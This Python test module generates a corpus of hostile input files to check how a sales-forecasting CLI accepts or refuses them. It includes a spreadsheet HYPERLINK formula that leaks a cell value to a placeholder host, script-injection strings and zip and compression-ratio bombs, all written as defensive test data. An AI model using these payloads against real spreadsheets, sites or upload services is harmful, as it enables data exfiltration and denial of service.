"""A corpus of small hostile files (issue 13), generated into a folder.

Each :class:`Case` is one file plus what the CLI must do with it: finish with
exit code 0 (and, where it matters, the right numbers in the forecast), refuse
it with exit code 2 and one clear line, or either. Nothing here is committed
as data: :func:`build` writes every file afresh (all small, the zip bomb is a
few hundred KB).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

OK, REFUSE, EITHER = "ok", "refuse", "either"
FORMULA_NAMES = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)"]
SCRIPT_NAMES = [
    "</title><script>alert(3)</script>",
    "![x](http://host/p.png)",
    '<a href="http://host/">click</a>',
]


@dataclass
class Case:
    """One hostile file and the expected outcome.

    Attributes:
        name: case id (also the test id).
        file: the file's name inside the corpus folder.
        expect: ``"ok"`` (exit 0), ``"refuse"`` (exit 2) or ``"either"``.
        args: extra CLI arguments (``{dir}`` is replaced by the corpus folder).
        check: called with the forecast frame read from OUT.csv when the run succeeded.
        xfail: a reason when the expected outcome depends on work not landed yet.
    """

    name: str
    file: str
    expect: str
    args: tuple[str, ...] = ()
    check: Callable[[pd.DataFrame], None] | None = None
    xfail: str | None = None


def _days(n: int = 42, start: str = "2024-01-01") -> pd.DatetimeIndex:
    return pd.date_range(start, periods=n, freq="D")


def long_frame(skus: list[str], values: list[float] | None = None, days: int = 42) -> pd.DataFrame:
    """``日期, 商品, 销量``: each SKU constant at its value (default 10, 20, ...)."""
    values = values or [10.0 * (i + 1) for i in range(len(skus))]
    ds = _days(days)
    return pd.concat(
        [
            pd.DataFrame({"日期": ds.strftime("%Y-%m-%d"), "商品": s, "销量": v})
            for s, v in zip(skus, values, strict=True)
        ],
        ignore_index=True,
    )


def means_are(expected: dict[str, float]) -> Callable[[pd.DataFrame], None]:
    """A check: the seasonal-naive forecast of each series equals its constant value."""

    def check(out: pd.DataFrame) -> None:
        got = out.groupby("unique_id")["seasonal_naive"].mean()
        assert set(got.index.astype(str)) == set(expected), sorted(got.index)
        for sid, want in expected.items():
            assert abs(got[sid] - want) < 1e-6 * max(1.0, abs(want)), (sid, got[sid], want)
        bands = [c for c in out.columns if c.startswith("seasonal_naive")]
        assert np.isfinite(out[bands].to_numpy(dtype=float)).all()

    return check


def finite_output(out: pd.DataFrame) -> None:
    """A check: every forecast and band cell is a finite number."""
    cols = [c for c in out.columns if c.startswith("seasonal_naive")]
    assert len(out) and np.isfinite(out[cols].to_numpy(dtype=float)).all()


def _xlsx(frames: dict[str, pd.DataFrame], header: bool = True) -> bytes:
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        for sheet, df in frames.items():
            df.to_excel(xw, sheet_name=sheet, index=False, header=header)
    return buf.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, data in members.items():
            zf.writestr(n, data)
    return buf.getvalue()


def _csv(df: pd.DataFrame, **kw) -> bytes:
    return df.to_csv(index=False, **kw).encode(kw.pop("encoding", None) or "utf-8")


def _formulas_without_values() -> bytes:
    """A workbook whose 销量 column holds formulas never calculated (no cached values)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["日期", "商品", "销量", "价格", "库存"])
    for i, d in enumerate(_days()):
        r = i + 2
        ws.append([d.to_pydatetime(), "A", f"=E{r}*0+7", 99.0, 50 + i])
    return _stream(wb)


def _stream(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _cover_workbook() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "封面"
    ws.append(["2024年销售报表（内部）"])
    data = wb.create_sheet("明细")
    data.append(["日期", "商品", "销量"])
    for d in _days():
        data.append([d.to_pydatetime(), "A", 30.0])
    return _stream(wb)


def _decimal_comma() -> bytes:
    lines = ["日期;商品;销量"]
    for d in _days():
        day = d.strftime("%Y-%m-%d")
        lines += [f"{day};A;2.100,0", f"{day};B;900,0"]
    return ("\n".join(lines) + "\n").encode()


def _mixed_dates() -> bytes:
    rows = ["date,sku,units"]
    for d in _days(40, "2024-04-01"):
        rows.append(f"{d.month:02d}/{d.day:02d}/{d.year},A,5")  # month first
        rows.append(f"{d.day:02d}/{d.month:02d}/{d.year},B,7")  # day first
    return ("\n".join(rows) + "\n").encode()


def _gap_bomb() -> bytes:
    rows = ["日期,商品,销量"]
    for k in range(400):
        rows.append(f"1901-01-01,SKU{k:03d},1")
        rows += [f"2024-06-0{d},SKU{k:03d},{d}" for d in (1, 2, 3)]
    return ("\n".join(rows) + "\n").encode()


def _zip_bomb(limit: int) -> bytes:
    head = b"\xe6\x97\xa5\xe6\x9c\x9f,\xe9\x94\x80\xe9\x87\x8f\n"  # 日期,销量
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("sales.csv", "w", force_zip64=True) as member:
            member.write(head)
            chunk = b"2024-01-01,1\n" * 80_000
            written = len(head)
            while written <= limit:
                member.write(chunk)
                written += len(chunk)
    return buf.getvalue()


def _ratio_bomb() -> bytes:
    """Under the size limit, but 20 MB of one repeated line packed into a few KB."""
    body = "日期,销量\n".encode() + b"2024-01-01,1\n" * 1_600_000
    return _zip({"sales.csv": body})


def _semicolon_thousands() -> bytes:
    """``;``-separated, decimal commas in one column, thousands points alone in another."""
    lines = ["日期;商品;销量;价格"]
    for d in _days():
        day = d.strftime("%Y-%m-%d")
        lines += [f"{day};A;1.234;12,5", f"{day};B;2.000;9,9"]
    return ("\n".join(lines) + "\n").encode()


def _parquet(df: pd.DataFrame) -> bytes:
    buf = io.BytesIO()
    df.to_parquet(buf, engine="pyarrow", index=False)
    return buf.getvalue()


def _files(limit: int) -> dict[str, tuple[bytes, str, dict]]:
    """name -> (bytes, expectation, Case extras)."""
    base = long_frame(["A", "B"])
    ok = means_are({"A": 10.0, "B": 20.0})
    rng = np.random.default_rng(13)
    f: dict[str, tuple[bytes, str, dict]] = {}
    f["baseline.csv"] = (_csv(base), OK, {"check": ok})
    f["formula_names.csv"] = (_csv(long_frame(FORMULA_NAMES)), OK, {})
    f["formula_names.xlsx"] = (_xlsx({"Sheet1": long_frame(FORMULA_NAMES)}), OK, {})
    f["script_names.csv"] = (_csv(long_frame(SCRIPT_NAMES)), OK, {})
    f["script_names.xlsx"] = (_xlsx({"s": long_frame(SCRIPT_NAMES)}), OK, {})
    newline = long_frame(['line\nbreak "quoted"', "tab\there", "x" * 500])
    f["odd_names.csv"] = (_csv(newline), OK, {})
    f["decimal_comma.csv"] = (_decimal_comma(), OK, {"check": means_are({"A": 2100, "B": 900})})
    quoted = base.assign(销量=base["销量"].map(lambda v: f"{v + 0.5:.1f}".replace(".", ",")))
    f["decimal_comma_quoted.csv"] = (_csv(quoted), OK, {"check": means_are({"A": 10.5, "B": 20.5})})
    mixed = base.assign(销量=["1.5" if i % 2 else "2,5" for i in range(len(base))])
    f["decimal_mixed.csv"] = (_csv(mixed), REFUSE, {})
    f["thousands_comma.csv"] = (
        _csv(base.assign(销量=base["销量"].map(lambda v: f"{v * 1000:,.0f}"))),
        OK,
        {"check": means_are({"A": 10_000, "B": 20_000})},
    )
    f["dates_mixed.csv"] = (_mixed_dates(), REFUSE, {})
    dayfirst = base.assign(日期=pd.to_datetime(base["日期"]).dt.strftime("%d/%m/%Y"))
    f["dates_dayfirst.csv"] = (_csv(dayfirst), OK, {"check": ok})
    f["headerless.csv"] = (_csv(base, header=False), REFUSE, {})
    f["headerless.xlsx"] = (
        _xlsx({"s": base.assign(日期=pd.to_datetime(base["日期"]))}, False),
        REFUSE,
        {},
    )
    inf = base.copy().astype({"销量": object})
    inf.loc[[3, 50], "销量"] = ["inf", "-inf"]
    inf.loc[[10, 60], "销量"] = ["1e308", "-1e308"]
    f["inf_sales.csv"] = (_csv(inf), OK, {"check": finite_output})
    f["formulas_no_values.xlsx"] = (_formulas_without_values(), REFUSE, {})
    whole = _xlsx({"s": base})
    f["truncated.xlsx"] = (whole[: len(whole) // 2], REFUSE, {})
    f["cover_sheet.xlsx"] = (_cover_workbook(), OK, {"check": means_are({"total": 30.0})})
    f["gap_bomb.csv"] = (_gap_bomb(), REFUSE, {})
    f["zip_bomb.zip"] = (_zip_bomb(limit), REFUSE, {})
    f["ratio_bomb.zip"] = (_ratio_bomb(), REFUSE, {})
    f["semicolon_thousands.csv"] = (
        _semicolon_thousands(),
        OK,
        {"check": means_are({"A": 1234.0, "B": 2000.0})},
    )
    f["cover_sheet_chosen.xlsx"] = (_cover_workbook(), REFUSE, {"args": ("--sheet", "封面")})
    f["nested.zip"] = (_zip({"inner.zip": _zip({"sales.csv": _csv(base)})}), REFUSE, {})
    f["two_members.zip"] = (_zip({"a.csv": _csv(base), "b.csv": _csv(base)}), REFUSE, {})
    f["one_member.zip"] = (_zip({"sales.csv": _csv(base)}), OK, {"check": ok})
    f["empty.csv"] = (b"", REFUSE, {})
    f["blank_lines.csv"] = (b"\n\n  \r\n", REFUSE, {})
    f["only_headers.csv"] = ("日期,商品,销量\n".encode(), REFUSE, {})
    f["binary_garbage.csv"] = (rng.integers(0, 256, 4096, dtype=np.uint8).tobytes(), REFUSE, {})
    f["nul_bytes.csv"] = (_csv(base).replace(b",", b"\x00"), REFUSE, {})
    f["html_as.xlsx"] = (
        b"<html><body><table><tr><td>1</td></tr></table></body></html>",
        REFUSE,
        {},
    )
    f["json_object.csv"] = (b'{"date": "2024-01-01", "sales": 1}', REFUSE, {})
    f["json_records.csv"] = (base.to_json(orient="records", force_ascii=False).encode(), REFUSE, {})
    f["old_excel.xls"] = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), REFUSE, {})
    f["fake.parquet"] = (b"PAR1" + rng.integers(0, 256, 500, dtype=np.uint8).tobytes(), REFUSE, {})
    whole_pq = _parquet(base.assign(日期=pd.to_datetime(base["日期"])))
    f["truncated.parquet"] = (whole_pq[: len(whole_pq) - 40], REFUSE, {})
    f["good.parquet"] = (whole_pq, OK, {"check": ok})
    f["bom_utf8.csv"] = (b"\xef\xbb\xbf" + _csv(base), OK, {"check": ok})
    f["bom_utf16le.csv"] = (
        b"\xff\xfe" + base.to_csv(index=False, sep="\t").encode("utf-16-le"),
        OK,
        {"check": ok},
    )
    f["bom_utf16be.csv"] = (
        b"\xfe\xff" + base.to_csv(index=False, sep="\t").encode("utf-16-be"),
        OK,
        {"check": ok},
    )
    gbk = long_frame(["面霜", "口红"])
    f["gbk.csv"] = (
        gbk.to_csv(index=False).encode("gbk"),
        OK,
        {"check": means_are({"面霜": 10.0, "口红": 20.0})},
    )
    f["crlf_title_lines.csv"] = (
        "2024 年销售明细\r\n导出时间 2024-02-15\r\n".encode() + _csv(base).replace(b"\n", b"\r\n"),
        OK,
        {"check": ok},
    )
    f["huge_horizon.csv"] = (_csv(base), EITHER, {"args": ("--horizon", "100000")})
    f["all_zero.csv"] = (
        _csv(long_frame(["A", "B"], [0.0, 0.0])),
        OK,
        {"check": means_are({"A": 0, "B": 0})},
    )
    f["negative.csv"] = (_csv(long_frame(["A", "B"], [-5.0, 20.0])), OK, {})
    dup = pd.concat([base, base], ignore_index=True)
    f["duplicated_dates.csv"] = (_csv(dup), OK, {"check": means_are({"A": 20.0, "B": 40.0})})
    f["three_days.csv"] = (_csv(long_frame(["A"], days=3)), REFUSE, {})
    f["one_day.csv"] = (_csv(long_frame(["A", "B"], days=1)), REFUSE, {})
    f["bad_dates.csv"] = (_csv(base.assign(日期="2024-13-45")), REFUSE, {})
    f["text_target.csv"] = (_csv(base.assign(销量="很多")), REFUSE, {})
    f["one_column.csv"] = ("销量\n1\n2\n3\n".encode(), REFUSE, {})
    total_row = pd.concat([base, pd.DataFrame({"日期": ["合计"], "商品": [""], "销量": [1e6]})])
    f["total_row.csv"] = (_csv(total_row), OK, {"check": ok})
    hier = long_frame(["A", "B", "C"]).assign(促销=0)
    hier["品类"] = hier["商品"].map({"A": "面霜", "B": "面霜", "C": "口红"})
    f["plan_history.csv"] = (_csv(hier), OK, {})
    plan = pd.DataFrame(
        {"日期": _days(14, "2024-02-12").strftime("%Y-%m-%d"), "品类": "面霜", "促销": 1}
    )
    f["plan_category_only.csv"] = (
        _csv(plan),
        REFUSE,
        {"args": ("--future", "{dir}/plan_category_only.csv"), "input": "plan_history.csv"},
    )
    return f


def build(folder: Path | None, limit: int | None = None) -> list[Case]:
    """Write the corpus into ``folder`` and return its cases.

    Args:
        folder: an empty folder (e.g. pytest's ``tmp_path``); ``None`` only lists
            the cases (``{dir}`` in their arguments is then left as it is).
        limit: the upload limit in bytes the zip bomb must exceed (default:
            ``forecasting.data.readers.MAX_BYTES``).
    """
    if limit is None:
        from forecasting.data.readers import MAX_BYTES

        limit = MAX_BYTES
    if folder is not None:
        folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for name, (data, expect, extra) in _files(limit).items():
        if folder is not None:
            (folder / name).write_bytes(data)
        extra = dict(extra)
        target = extra.pop("input", name)
        args = extra.pop("args", ())
        if folder is not None:
            args = tuple(a.replace("{dir}", str(folder)) for a in args)
        cases.append(Case(name.replace(".", "_"), target, expect, args, **extra))
    return cases
